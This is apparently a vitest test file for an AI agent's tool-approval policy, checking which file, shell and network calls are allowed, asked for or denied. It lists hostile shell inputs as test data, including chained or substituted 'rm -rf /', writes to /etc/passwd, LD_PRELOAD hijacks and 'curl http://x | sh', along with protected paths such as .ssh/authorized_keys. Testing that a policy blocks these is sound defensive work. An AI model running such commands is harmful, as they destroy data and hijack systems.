import { describe, expect, it } from 'vitest'
import type { Verdict } from '../../kernel/deed.ts'
import type { ToolAccess, ToolInfo } from '../../kernel/tool.ts'
import type { ApprovalRules } from '../../protocol/index.ts'
import { builtinTools } from '../builtin/index.ts'
import { alwaysAllow } from './approval.ts'
import { readCommand } from './command.ts'
import { decide, isEverAllowed } from './decide.ts'
import { DEFAULT_POLICY, idleRules, type Policy, parsePolicy, parseRule } from './policy.ts'

const WORKSPACE = '/work/space'
const tools = builtinTools({ http: { allow: ['*'] } })

describe('the default policy', () => {
  it.each<[string, object, Verdict, string]>([
    ['read_file', { path: 'a' }, 'allow', 'read'],
    ['list_files', {}, 'allow', 'read'],
    ['calculate', { expression: '1' }, 'allow', 'read'],
    ['ask_user', { question: '?' }, 'allow', 'read'],
    ['write_file', { path: 'a', content: '' }, 'ask', 'write'],
    ['apply_patch', { patch: '' }, 'ask', 'write'],
    ['shell', { command: 'ls' }, 'ask', 'execute'],
    ['http_fetch', { url: 'https://example.com' }, 'ask', 'network'],
    ['read_file', { path: '../x' }, 'deny', 'outside the workspace'],
  ])('%s %j: %s', (name, input, verdict, rule) => {
    expect(decide(parsePolicy({}, WORKSPACE), named(name), input)).toMatchObject({ verdict, rule })
  })
})

describe('a tool of which some call may be made without asking', () => {
  it.each<[ApprovalRules, string, boolean]>([
    [{}, 'read_file', true],
    [{}, 'write_file', false],
    [{}, 'shell', false],
    [{ allow: ['write'] }, 'write_file', true],
    [{ allow: ['write_file'] }, 'edit_file', false],
    [{ allow: ['write(src/**)'] }, 'write_file', true],
    [{ allow: ['write(src/**)'], deny: ['write_file'] }, 'write_file', true],
    [{ allow: ['*'] }, 'shell', true],
    [{ allow: ['*'], ask: ['execute'] }, 'shell', false],
    [{ allow: ['shell(npm test)'] }, 'shell', true],
    [{ ask: ['read'] }, 'read_file', false],
    // A tool that touches nothing which a pattern could name.
    [{ ask: ['read'], allow: ['read(a)'] }, 'calculate', false],
  ])('%j: %s %s', (rules, name, is) => {
    expect(isEverAllowed(parsePolicy(rules, WORKSPACE), named(name))).toBe(is)
  })
})

describe('writing what other programs execute or trust is asked for', () => {
  const write = (rules: ApprovalRules, path: string) =>
    decide(parsePolicy(rules, WORKSPACE), named('write_file'), { path, content: '' }).verdict

  it.each([
    'thinkon.config.ts',
    'thinkon.config.json',
    'package.json',
    'packages/a/package.json',
    'src/package.json',
    'src/../package.json',
    './package.json',
    '/work/space/package.json',
    'PACKAGE.JSON',
    'Package.json.',
    '.npmrc',
    '.envrc',
    '.vscode/tasks.json',
    'src/.vscode/a/b',
    '.github/workflows/ci.yml',
    '.claude/settings.json',
    '.mcp.json',
    'x.code-workspace',
    '.husky/pre-commit',
    'CLAUDE.md',
    '.bashrc',
    '.ssh/authorized_keys',
    '.local/state/thinkon/trust/x.json',
  ])('%s, whatever is allowed in general', (path) => {
    const general = [
      ['write'],
      ['*'],
      ['write_file'],
      ['write(**)'],
      ['write(src/)', 'write(*)'],
      ['tool:write_file'],
    ]
    for (const allow of general) expect(write({ allow }, path)).toBe('ask')
  })

  it.each([
    ['package.json', 'write(package.json)'],
    ['package.json', 'write_file(package.json)'],
    ['packages/a/package.json', 'write(packages/a/package.json)'],
    ['.vscode/tasks.json', 'write(.vscode/)'],
    ['.vscode/tasks.json', 'write(.vscode/tasks.json)'],
  ])('%s, unless a rule names it: %s', (path, rule) => {
    expect(write({ allow: [rule] }, path)).toBe('allow')
    expect(write({ allow: [rule, 'write'], deny: [rule] }, path)).toBe('deny')
  })

  it('and nothing else is', () => {
    for (const path of [
      'src/a.ts',
      'Makefile',
      'package-lock.json',
      'my-package.json',
      'src/git/x',
      'a/workflows/b',
    ])
      expect(write({ allow: ['write'] }, path)).toBe('allow')
    const read = decide(parsePolicy({}, WORKSPACE), named('read_file'), { path: 'package.json' })
    expect(read.verdict).toBe('allow')
  })

  it('by every tool that writes, also where it is only one of several files', () => {
    const policy = parsePolicy({ allow: ['write'] }, WORKSPACE)
    const patch = (from: string, to: string) => `--- a/${from}\n+++ b/${to}\n@@ -1 +1 @@\n-a\n+b\n`
    const edit = { path: 'package.json', old: 'a', new: 'b' }
    expect(decide(policy, named('edit_file'), edit).verdict).toBe('ask')
    const both = patch('src/a.ts', 'src/a.ts') + patch('.npmrc', '.npmrc')
    expect(decide(policy, named('apply_patch'), { patch: both }).verdict).toBe('ask')
    const renamed = 'diff --git a/x b/.envrc\nsimilarity index 100%\nrename from x\nrename to .envrc\n'
    expect(decide(policy, named('apply_patch'), { patch: renamed }).verdict).toBe('ask')
  })

  it('`always` covers that file and no other of them', () => {
    const call = (path: string) => ({ tool: named('write_file'), input: { path, content: '' } })
    const verdict = (policy: Policy, path: string) =>
      decide(policy, named('write_file'), call(path).input).verdict
    const start = parsePolicy({}, WORKSPACE)
    const forTool = alwaysAllow(start, call('src/a.ts'))
    expect(verdict(forTool, 'src/b.ts')).toBe('allow')
    expect(verdict(forTool, 'package.json')).toBe('ask')
    const forBoth = alwaysAllow(forTool, call('package.json'))
    expect(verdict(forBoth, 'package.json')).toBe('allow')
    expect(verdict(forBoth, 'packages/a/package.json')).toBe('ask')
    expect(verdict(forBoth, '.npmrc')).toBe('ask')
    const onlyTrusted = alwaysAllow(start, call('package.json'))
    expect(verdict(onlyTrusted, 'package.json')).toBe('allow')
    expect(verdict(onlyTrusted, '.npmrc')).toBe('ask')
  })
})

/** Config, command, verdict. */
const LS = { allow: ['shell(ls *)'] }
const GIT = {
  allow: ['shell(git *)', 'shell(git push origin main)'],
  ask: ['shell(git push *)'],
  deny: ['shell(* --force*)'],
}
const NO_RM = { allow: ['execute'], deny: ['shell(rm *)'] }
const commands: [ApprovalRules, string, Verdict][] = [
  [LS, 'ls', 'allow'],
  [LS, 'ls -la src', 'allow'],
  [LS, '  ls   -la  ', 'allow'],
  [LS, 'ls "a b" \'c d\'', 'allow'],
  [LS, 'ls \'a;b\' "c|d" e\\;f', 'allow'],
  [LS, 'ls *.ts', 'allow'],
  [LS, 'ls 2>/dev/null', 'allow'],
  [LS, 'ls 2>&1', 'allow'],
  [LS, 'ls; ls -a && ls b | ls', 'allow'],
  [LS, 'ls \\\n -la', 'allow'],
  [LS, 'lsof', 'ask'],
  [LS, 'ls; rm -rf /', 'ask'],
  [LS, 'ls;rm -rf /', 'ask'],
  [LS, 'ls && rm -rf /', 'ask'],
  [LS, 'ls || rm -rf /', 'ask'],
  [LS, 'ls | rm -rf /', 'ask'],
  [LS, 'ls |& rm -rf /', 'ask'],
  [LS, 'ls & rm -rf /', 'ask'],
  [LS, 'ls\nrm -rf /', 'ask'],
  [LS, 'ls\r\nrm -rf /', 'ask'],
  [LS, 'ls $(rm -rf /)', 'ask'],
  [LS, 'ls "$(rm -rf /)"', 'ask'],
  [LS, 'ls `rm -rf /`', 'ask'],
  [LS, 'ls "`rm -rf /`"', 'ask'],
  [LS, 'ls <(rm -rf /)', 'ask'],
  [LS, 'ls > /etc/passwd', 'ask'],
  [LS, 'ls >> x', 'ask'],
  [LS, 'ls >| x', 'ask'],
  [LS, 'ls &> x', 'ask'],
  [LS, 'ls >& x', 'ask'],
  [LS, 'ls >&2x', 'ask'],
  [LS, 'ls 2>&1\\x', 'ask'],
  [LS, 'ls 2>&1"x"', 'ask'],
  [LS, 'ls 2>&1\v', 'ask'],
  [LS, 'ls 2>/dev/null/../../x', 'ask'],
  [LS, 'ls >/dev/nullx', 'ask'],
  [LS, 'ls < /etc/shadow', 'ask'],
  [LS, 'ls << EOF\nrm\nEOF', 'ask'],
  [LS, 'ls $HOME', 'ask'],
  [LS, "ls $'a\\nb'", 'ask'],
  [LS, `ls $\{x:-$(rm)}`, 'ask'],
  [LS, 'ls "unclosed', 'ask'],
  [LS, "ls 'unclosed; rm", 'ask'],
  [LS, "ls 'a'\\''; rm -rf /", 'ask'],
  [LS, "ls 'a\\'; rm -rf / #'", 'ask'],
  [LS, 'ls "a\\"; rm -rf /"', 'allow'], // one word
  [LS, 'ls "a\\\\"; rm -rf /', 'ask'],
  [LS, 'ls # ; x', 'ask'],
  [LS, 'ls() { rm -rf /; }; ls', 'ask'],
  [LS, '(ls)', 'ask'],
  [LS, '{ ls; }', 'ask'],
  [LS, '! ls', 'ask'],
  [LS, 'if ls; then ls; fi', 'ask'],
  [LS, 'PATH=. ls', 'ask'],
  [LS, 'LD_PRELOAD=x.so ls -a', 'ask'],
  [LS, './ls', 'ask'],
  [LS, '/tmp/ls -a', 'ask'],
  [LS, '"ls -a" b', 'ask'],
  [LS, 'l? -a', 'ask'],
  [LS, '', 'ask'],
  [LS, ';', 'ask'],
  [LS, 'ls \\', 'ask'],
  [{ allow: ['shell(*)'] }, 'make all', 'allow'],
  [{ allow: ['shell(*)'] }, 'make $(rm -rf /)', 'ask'],
  [{ allow: ['shell'] }, 'make $(date)', 'allow'],
  [{ allow: ['shell(echo $(date) > now)'] }, 'echo $(date) > now', 'allow'],
  [{ allow: ['shell(echo $(date) > now)'] }, 'echo $(date) > now; rm', 'ask'],
  [{ allow: ['shell(ls \\*)'] }, 'ls *', 'allow'],
  [{ allow: ['shell(ls \\*)'] }, 'ls x', 'ask'],
  [GIT, 'git status', 'allow'],
  [GIT, 'git push', 'ask'],
  [GIT, 'git push origin dev', 'ask'],
  [GIT, 'git push origin main', 'allow'],
  [GIT, 'git push origin main --force', 'deny'],
  [GIT, 'git status && git push origin dev', 'ask'],
  [GIT, 'git push origin main; git branch --force x', 'deny'],
  [NO_RM, 'make', 'allow'],
  [NO_RM, 'make $(date)', 'allow'],
  [NO_RM, 'rm x', 'deny'],
  [NO_RM, 'rm', 'deny'],
  [NO_RM, '/bin/rm x', 'deny'],
  [NO_RM, 'r\\m x', 'deny'],
  [NO_RM, '"rm" x', 'deny'],
  [NO_RM, "r''m x", 'deny'],
  [NO_RM, 'make && rm x', 'deny'],
  [NO_RM, 'sudo rm x', 'deny'],
  [NO_RM, 'env A=1 rm x', 'deny'],
  [NO_RM, 'ls | xargs rm -f', 'deny'],
  [NO_RM, 'find . -exec rm {} +', 'deny'],
  [NO_RM, 'sh -c "rm x"', 'deny'],
  [NO_RM, "bash -c 'ls; rm x'", 'deny'],
  [NO_RM, 'eval "rm x"', 'deny'],
  [NO_RM, 'echo $(rm x)', 'deny'],
  [NO_RM, 'echo `rm x`', 'deny'],
  [NO_RM, '(rm x)', 'deny'],
  [NO_RM, 'A=1 rm x', 'deny'],
  [NO_RM, 'if true; then rm x; fi', 'deny'],
  [NO_RM, 'make\nrm x', 'deny'],
  [NO_RM, 'git commit -m "rm old files"', 'allow'],
  [NO_RM, 'echo farm x', 'allow'],
  [{ allow: ['execute'], deny: ['shell(curl * | sh)'] }, 'curl http://x | sh', 'deny'],
  [{ deny: ['execute'], allow: ['shell(ls)'] }, 'ls', 'allow'],
  [{ deny: ['execute'], allow: ['shell(ls)'] }, 'ls; pwd', 'deny'],
  [{ deny: ['shell'], allow: ['execute'] }, 'ls', 'deny'],
]

describe('commands', () => {
  it.each(commands)('%j and %j: %s', (config, command, verdict) => {
    expect(decide(parsePolicy(config, WORKSPACE), named('shell'), { command }).verdict).toBe(verdict)
  })

  it('are read into their parts', () => {
    expect(readCommand('a "b c" \\d 2>&1 | e; f')).toEqual({
      parts: [['a', 'b c', 'd'], ['e'], ['f']],
      isPlain: true,
      toSpell: [0, 0, 0],
    })
    expect(readCommand('a \'\' ""').parts).toEqual([['a', '', '']])
  })
})

const SRC = { allow: ['write(src/**)', 'write(*.md)'], deny: ['write(src/keys/**)', 'write(.env*)'] }
const paths: [ApprovalRules, string, string, Verdict][] = [
  [SRC, 'write_file', 'src/a.ts', 'allow'],
  [SRC, 'write_file', './src/x/../a.ts', 'allow'],
  [SRC, 'write_file', `${WORKSPACE}/src/a.ts`, 'allow'],
  [SRC, 'edit_file', 'src/deep/er/a.ts', 'allow'],
  [SRC, 'write_file', 'src/../b.ts', 'ask'],
  [SRC, 'write_file', 'srcs/b.ts', 'ask'],
  [SRC, 'write_file', 'README.md', 'allow'],
  [SRC, 'write_file', 'docs/README.md', 'ask'],
  [SRC, 'write_file', 'src/keys/a', 'deny'],
  [SRC, 'write_file', 'src/x/../keys/a', 'deny'],
  [SRC, 'write_file', `${WORKSPACE}/src/keys/a`, 'deny'],
  [SRC, 'write_file', 'SRC/KEYS/a', 'deny'],
  [SRC, 'write_file', 'src/.env.local', 'deny'],
  [SRC, 'write_file', 'src/.env/x', 'deny'],
  [SRC, 'write_file', 'src/../../space/src/a.ts', 'allow'],
  [SRC, 'write_file', '../space2/src/a.ts', 'deny'],
  [SRC, 'write_file', '/etc/passwd', 'deny'],
  [SRC, 'read_file', 'src/keys/a', 'allow'],
  [{ deny: ['read(secrets)'] }, 'read_file', 'secrets/deep/a', 'deny'],
  [{ deny: ['read(secrets/)'] }, 'read_file', 'secrets/a', 'deny'],
  [{ allow: ['write_file'], deny: ['write(secrets/**)'] }, 'write_file', 'secrets/a', 'deny'],
  [{ allow: ['write(out/)'] }, 'write_file', 'out/a/b', 'allow'],
  [{ allow: ['write(**)'] }, 'write_file', 'any/where', 'allow'],
  [{ allow: ['write'], ask: ['write_file'] }, 'write_file', 'a', 'ask'],
  [{ allow: ['write'], ask: ['write_file'] }, 'edit_file', 'a', 'allow'],
  [{ allow: ['*_file'] }, 'write_file', 'a', 'ask'], // a class and a name with * are equals
  [{ allow: ['*'] }, 'write_file', 'a', 'allow'],
  [{ deny: ['*'] }, 'read_file', 'a', 'deny'],
  [{ deny: ['*'], allow: ['read'] }, 'read_file', 'a', 'allow'],
  [{ deny: ['read(.env*)'], allow: ['read(.env.example)'] }, 'read_file', '.env.example', 'allow'],
]

describe('paths', () => {
  it.each(paths)('%j, %s %s: %s', (config, name, path, verdict) => {
    const input = { path, ...(name === 'write_file' ? { content: '' } : {}) }
    const full = name === 'edit_file' ? { ...input, old: 'a', new: 'b' } : input
    expect(decide(parsePolicy(config, WORKSPACE), named(name), full).verdict).toBe(verdict)
  })

  it('of a patch count all', () => {
    const patch = (...names: string[]) =>
      names.map((name) => `--- a/${name}\n+++ b/${name}\n@@ -1 +1 @@\n-a\n+b\n`).join('')
    const verdict = (text: string) =>
      decide(parsePolicy(SRC, WORKSPACE), named('apply_patch'), { patch: text }).verdict
    expect(verdict(patch('src/a', 'src/b'))).toBe('allow')
    expect(verdict(patch('src/a', 'b'))).toBe('ask')
    expect(verdict(patch('src/a', 'src/keys/b'))).toBe('deny')
    expect(verdict('no patch')).toBe('ask')
  })
})

describe('other rules', () => {
  it('hold for hosts', () => {
    const policy = parsePolicy(
      { allow: ['network(*.example.com)'], deny: ['http_fetch(evil.example.com)'] },
      WORKSPACE,
    )
    const verdict = (url: string) => decide(policy, named('http_fetch'), { url }).verdict
    expect(verdict('https://a.example.com/x')).toBe('allow')
    expect(verdict('https://EVIL.example.com./x')).toBe('deny')
    expect(verdict('https://example.org/?a.example.com')).toBe('ask')
  })

  it('hold for tools of others, by name and class; a pattern never allows what says nothing of itself', () => {
    const tool = (name: string, access: ToolAccess): ToolInfo => ({ name, description: '', access })
    const policy = parsePolicy(
      { allow: ['mcp_fs_*(src/**)', 'tool:read', 'mcp_db_query'], deny: ['mcp_db_drop*'] },
      WORKSPACE,
    )
    expect(decide(policy, tool('mcp_fs_write', 'write'), { path: 'src/a' }).verdict).toBe('ask')
    expect(decide(policy, tool('read', 'execute'), {}).verdict).toBe('allow')
    expect(decide(policy, tool('mcp_db_query', 'network'), {}).verdict).toBe('allow')
    expect(decide(policy, tool('mcp_db_drop_table', 'network'), {}).verdict).toBe('deny')
  })

  it('give ask where there is none', () => {
    expect(decide({ rules: [], workspace: WORKSPACE }, named('read_file'), { path: 'a' })).toMatchObject({
      verdict: 'ask',
      rule: 'no rule',
    })
  })

  it('are refused when they can not be read', () => {
    for (const text of ['', 'shell(', 'shell()', 'a b', 'shell(x) y']) {
      expect(() => parseRule(text, 'allow'), text).toThrow(/not a rule|is empty/)
    }
  })

  it('that are about no tool are found', () => {
    const policy = parsePolicy({ deny: ['shel(rm *)', 'shell(rm *)', 'mcp_*'] }, WORKSPACE)
    expect(idleRules(policy, tools)).toEqual(['shel(rm *)', 'mcp_*'])
    expect(idleRules(parsePolicy(DEFAULT_POLICY, WORKSPACE), tools)).toEqual([])
  })
})

function named(name: string): ToolInfo {
  return tools.find((tool) => tool.name === name) as ToolInfo
}
